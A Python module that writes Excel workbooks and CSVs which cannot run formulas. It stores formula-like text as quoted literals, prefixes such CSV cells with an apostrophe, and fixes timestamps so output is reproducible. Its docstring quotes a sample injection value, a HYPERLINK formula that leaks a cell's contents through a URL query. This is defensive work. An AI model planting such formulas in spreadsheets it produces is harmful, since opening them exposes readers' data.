"""Office documents that cannot attack their reader, and that come out byte for byte the same.

Names come from the planners' data and from scenario files; a township or scenario named
``=HYPERLINK("http://…?leak="&A1,"点击")`` must stay text when a leader opens the workbook.

- Workbooks: every text cell that begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return
  is stored as a literal string (never a formula) with Excel's quote prefix, so editing the
  cell keeps it text (:func:`excel_writer`).
- CSVs written for Excel: such text cells get a leading apostrophe, the OWASP CSV-injection
  advice (:func:`csv_safe`); numbers are left alone (a negative number is not text).
- Control characters, which a workbook cannot hold, are dropped from its text cells.
- Workbooks are byte-identical for the same content: the document times in
  ``docProps/core.xml`` and every zip entry time are fixed (:data:`FIXED_TIME`).
"""

from __future__ import annotations

import contextlib
import datetime as dt
import os
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = [
    "FIXED_TIME",
    "FORMULA_STARTS",
    "csv_safe",
    "excel_writer",
    "make_xlsx_reproducible",
    "neutralise_workbook",
    "safe_csv_text",
]

FIXED_TIME = dt.datetime(2020, 1, 1)
"""The time stamped into every workbook (its document properties and zip entries)."""

FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""A text cell starting with one of these could run as a formula in a spreadsheet."""

_ZIP_TIME = (2020, 1, 1, 0, 0, 0)
_STAMP = FIXED_TIME.strftime("%Y-%m-%dT%H:%M:%SZ")
_CORE_TIMES = re.compile(rb"(<dcterms:(created|modified)[^>]*>)[^<]*(</dcterms:\2>)")


def safe_csv_text(value: Any) -> Any:
    """Return ``value`` with a leading apostrophe when it is text that looks like a formula.

    Parameters
    ----------
    value
        A cell value.

    Returns
    -------
    object
        ``"'" + value`` for a string starting with one of :data:`FORMULA_STARTS`, else
        ``value`` unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_safe(table: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``table`` whose text cells cannot run as formulas in Excel.

    Parameters
    ----------
    table
        The table about to be written as CSV.

    Returns
    -------
    pandas.DataFrame
        The same table; text cells (and text headers) starting with ``= + - @``, tab or CR
        are prefixed with an apostrophe. Numeric columns are unchanged.
    """
    out = table.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(safe_csv_text)
    out.columns = [safe_csv_text(c) for c in out.columns]
    return out


def neutralise_workbook(book: Any) -> int:
    """Store every formula-like text cell of an openpyxl workbook as literal, quoted text.

    Parameters
    ----------
    book
        An ``openpyxl.Workbook`` (this package never writes formulas on purpose).

    Returns
    -------
    int
        How many cells were changed.
    """
    n = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    n += 1
    return n


def make_xlsx_reproducible(path: str | Path) -> None:
    """Rewrite a workbook with fixed document and zip entry times (same content, same bytes).

    Parameters
    ----------
    path
        The ``.xlsx`` file, rewritten in place (through a sibling file and a rename).
    """
    path = Path(path)
    tmp = path.with_name(path.name + ".tmp")
    try:
        with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w") as dst:
            for info in src.infolist():
                data = src.read(info.filename)
                if info.filename == "docProps/core.xml":
                    data = _CORE_TIMES.sub(rb"\g<1>" + _STAMP.encode() + rb"\g<3>", data)
                fixed = zipfile.ZipInfo(info.filename, date_time=_ZIP_TIME)
                fixed.compress_type = zipfile.ZIP_DEFLATED
                fixed.external_attr = 0o600 << 16
                fixed.create_system = 3
                dst.writestr(fixed, data)
        os.replace(tmp, path)
    finally:
        with contextlib.suppress(FileNotFoundError):
            tmp.unlink()


@contextlib.contextmanager
def excel_writer(path: str | Path) -> Iterator[pd.ExcelWriter]:
    """Open a pandas Excel writer whose workbook is safe to open and reproducible.

    Use it as ``pd.ExcelWriter(path, engine="openpyxl")``; on leaving the block every
    formula-like text cell is made literal (:func:`neutralise_workbook`), the workbook is
    saved, and its times are fixed (:func:`make_xlsx_reproducible`).

    Parameters
    ----------
    path
        The ``.xlsx`` file to write.

    Yields
    ------
    pandas.ExcelWriter
        The writer (openpyxl engine); ``writer.book`` is the workbook.
    """
    with _control_characters_dropped(), pd.ExcelWriter(path, engine="openpyxl") as xw:
        yield xw
        book: Any = xw.book
        neutralise_workbook(book)
        book.properties.created = FIXED_TIME
        book.properties.modified = FIXED_TIME
    make_xlsx_reproducible(path)


@contextlib.contextmanager
def _control_characters_dropped() -> Iterator[None]:
    """Drop the control characters XML cannot hold from text cells instead of failing.

    A scenario name holding a BEL character (from a YAML escape) would otherwise stop openpyxl with
    ``IllegalCharacterError`` after the plan was made; input tables are cleaned on reading.
    """
    from openpyxl.cell import cell as oxcell

    original = oxcell.Cell.check_string

    def check_string(self: Any, value: Any) -> Any:
        if isinstance(value, str):
            value = oxcell.ILLEGAL_CHARACTERS_RE.sub("", value)
        return original(self, value)

    oxcell.Cell.check_string = check_string  # type: ignore[method-assign]
    try:
        yield
    finally:
        oxcell.Cell.check_string = original  # type: ignore[method-assign]
